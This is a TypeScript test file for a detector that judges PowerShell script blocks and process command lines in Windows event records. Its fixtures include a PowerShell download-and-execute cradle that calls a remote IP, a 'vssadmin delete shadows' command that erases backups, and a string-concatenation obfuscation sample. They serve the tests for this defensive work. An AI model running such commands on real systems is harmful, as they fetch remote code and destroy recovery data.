/** Blocks of PowerShell and command lines that lie deep in a record: both reach the judge of commands. */
import { createReadStream } from 'node:fs';
import { expect, test } from 'vitest';
import { assessHosts, createHostWatch } from '../../../analysis/endpoint/index.ts';
import { openRecording } from '../../../analysis/recordings/index.ts';
import { dataPath, describeWithData } from '../../support/data.ts';
import { accusations, assessed } from './assessed.ts';

const block = (ScriptBlockText: string, of: object = {}) => ({
  Channel: 'Microsoft-Windows-PowerShell/Operational',
  EventID: 4104,
  Hostname: 'WS-042',
  '@timestamp': '2026-11-24T09:12:01.100Z',
  ScriptBlockId: ScriptBlockText,
  MessageNumber: 1,
  MessageTotal: 1,
  ScriptBlockText,
  ...of,
});
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";

test('a block that downloads and runs code is told with its record and technique', async () => {
  const result = await assessed([block('Get-Process'), block(CRADLE)]);
  expect(accusations(result)).toEqual([expect.stringMatching(/^high command\//)]);
  expect(result.verdict).toBe('suspicious');
  expect(result.mitre_techniques).toContain('T1059.001');
  expect(result.findings[0]?.evidence[0]).toMatchObject({ locator: 'line 2', excerpt: CRADLE });
});

test('a block that was split is judged as one, in whatever order its parts come', async () => {
  const parts = [CRADLE.slice(0, 10), CRADLE.slice(10, 52), CRADLE.slice(52)].map((text, index) =>
    block(text, { ScriptBlockId: 'a', MessageNumber: index + 1, MessageTotal: 3 }),
  );
  expect(accusations(await assessed(parts))).toHaveLength(1);
  expect(accusations(await assessed([...parts].reverse()))).toHaveLength(1);
  const torn = await assessed(parts.slice(0, 1));
  expect(torn.verdict).toBe('inconclusive');
  expect(torn.not_checked.map(({ what }) => what)).toContain('parts of 1 blocks of PowerShell');
});

test('two blocks under one id are both judged, and a record that comes twice counts once', async () => {
  const harmless = block('Get-Process', { ScriptBlockId: 'a' });
  const result = await assessed([harmless, block(CRADLE, { ScriptBlockId: 'a' })]);
  expect(result.findings[0]?.evidence[0]).toMatchObject({ locator: 'line 2', excerpt: CRADLE });
  const again = await assessed([block(CRADLE, { ScriptBlockId: 'a' }), block(CRADLE, { ScriptBlockId: 'a' })]);
  expect(again.findings[0]?.evidence).toHaveLength(1);
});

test('texts put together out of many pieces are told, though nobody can say what they do', async () => {
  const pieces = Array.from({ length: 40 }, (_, index) => `('q${index}'+'x')`).join('+');
  expect(accusations(await assessed([block(`$a=${pieces};&($a)`)]))).toContain('medium script/pieced-together');
});

test('what a block defines and nothing calls, and what a library holds, is not said to be done', async () => {
  const body = 'function Clear-Copies {\n  <# .EXAMPLE Clear-Copies #>\n  vssadmin.exe delete shadows /all /quiet\n}\n';
  const defined = await assessed([block(body)]);
  expect(accusations(defined)).toEqual([expect.stringMatching(/^medium command\//)]);
  expect(defined.findings[0]?.title).toContain('holds, and does not call, what');
  expect(accusations(await assessed([block(`${body}Clear-Copies`)]))).toEqual([
    expect.stringMatching(/^critical command\//),
  ]);
  const commented = await assessed([block('<# vssadmin.exe delete shadows /all /quiet #>\nGet-Date')]);
  expect(accusations(commented)).toEqual([expect.stringMatching(/^medium command\//)]);
  const library = `${"Write-Output 'something harmless'\n".repeat(400)}${body}`;
  expect((await assessed([block(library)])).findings[0]?.title).toContain('holds a line that');
});

test.each([
  ['an administrator who looks', 'Get-Process | Sort-Object CPU -Descending | Select-Object -First 10'],
  ['the prompt', 'prompt'],
  ['an alias of the CIM module', 'Set-Alias -Name rcie -Value Register-CimIndicationEvent -Option ReadOnly, AllScope'],
  [
    'a maintenance script',
    'Get-ChildItem C:\\Logs -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30)',
  ],
])('%s is benign', async (_who, text) => {
  const result = await assessed([block(text)]);
  expect(accusations(result)).toEqual([]);
  expect(result.verdict).toBe('benign');
});

const DELETE = 'vssadmin.exe delete shadows /all /quiet';
const ecs = (of: object) => ({
  '@timestamp': '2026-11-24T09:12:01.100Z',
  event: { category: ['process'], type: ['start'] },
  host: { name: 'ws-042' },
  ...of,
});

test.each([
  ['process.command_line', ecs({ process: { pid: 7, executable: 'C:\\x.exe', command_line: DELETE } })],
  ['process.args', ecs({ process: { pid: 7, args: DELETE.split(' ') } })],
  [
    'process.parent.command_line',
    ecs({ process: { pid: 7, command_line: 'whoami', parent: { pid: 6, command_line: DELETE } } }),
  ],
  ['a dotted name', { ...ecs({}), 'process.command_line': DELETE }],
  ['winlog.event_data.CommandLine', ecs({ winlog: { event_data: { CommandLine: DELETE } } })],
  [
    'process.command_line, moved out of a record of Sysmon',
    ecs({
      winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', event_id: 1, event_data: { RuleName: '-' } },
      process: { entity_id: '{7}', executable: 'C:\\x.exe', command_line: DELETE },
    }),
  ],
  [
    'process.args, moved out of a record of the audit',
    ecs({
      winlog: { channel: 'Security', event_id: 4688, event_data: {} },
      process: { pid: 7, args: DELETE.split(' ') },
    }),
  ],
])('a command line in %s is judged', async (_where, record) => {
  const result = await assessed([record]);
  expect(accusations(result)).toEqual([expect.stringMatching(/^critical command\//)]);
  expect(result.findings[0]?.evidence[0]?.locator).toBe('line 1');
});

test('ordinary processes in the common schema are benign, and the same process is one', async () => {
  const record = ecs({ process: { pid: 7, entity_id: 'a', command_line: 'notepad.exe a.txt' } });
  expect((await assessed([record, record])).verdict).toBe('benign');
});

describeWithData('a block in a recording', () => {
  test('that dumps LSASS is told', async () => {
    const name = 'Powershell_4104_MiniDumpWriteDump_Lsass.evtx.gz';
    const watch = createHostWatch();
    const recording = openRecording({ name, bytes: createReadStream(dataPath('evtx', name)) });
    for await (const batch of recording.batches) for (const event of batch) watch.note(event);
    const { result } = await assessHosts(watch, {
      source: name,
      checked: { question: '?', corpus: { sha256: '0'.repeat(64), items: 4, items_read: 4 } },
      not_checked: [],
      data_versions: {},
    });
    expect(result).toMatchObject({ verdict: 'malicious', mitre_techniques: ['T1003.001'] });
  });
});
